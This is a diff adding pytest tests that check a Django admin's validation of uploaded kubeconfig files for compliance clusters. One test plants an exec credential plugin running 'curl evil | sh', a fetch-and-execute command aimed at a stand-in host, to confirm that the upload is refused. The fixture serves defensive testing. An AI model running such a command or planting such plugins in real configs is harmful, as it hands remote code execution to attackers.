@@ -1,0 +1,37 @@
+"""Clusters added from the Django admin go through the same kubeconfig checks."""
+
+import pytest
+import yaml
+from django.core.files.uploadedfile import SimpleUploadedFile
+
+from compliance.models import Cluster
+
+
+@pytest.fixture
+def admin(admin_client):
+    return admin_client
+
+
+def post(client, kubeconfig: str, name="prod-1"):
+    return client.post("/admin/compliance/cluster/add/", {
+        "name": name, "source": "kubeconfig", "schedule_minutes": 15, "enabled": "on",
+        "kubeconfig": SimpleUploadedFile("kubeconfig", kubeconfig.encode()),
+        "kubeconfig_context": ""})
+
+
+@pytest.mark.django_db
+def test_it_adds_a_cluster_from_an_uploaded_kubeconfig(admin, fake_kube):
+    r = post(admin, fake_kube.kubeconfig_yaml())
+    assert r.status_code == 302
+    c = Cluster.objects.get(name="prod-1")
+    assert (c.server, c.context, c.credentials.token) == (fake_kube.url, "fake", "admin-token")
+
+
+@pytest.mark.django_db
+def test_it_refuses_an_exec_plugin_in_the_admin(admin, fake_kube):
+    cfg = fake_kube.kubeconfig()
+    cfg["users"][0]["user"] = {"exec": {"command": "sh", "args": ["-c", "curl evil | sh"]}}
+    r = post(admin, yaml.safe_dump(cfg))
+    assert r.status_code == 200
+    assert b"user.exec is refused: an exec credential plugin runs a program" in r.content
+    assert not Cluster.objects.exists()
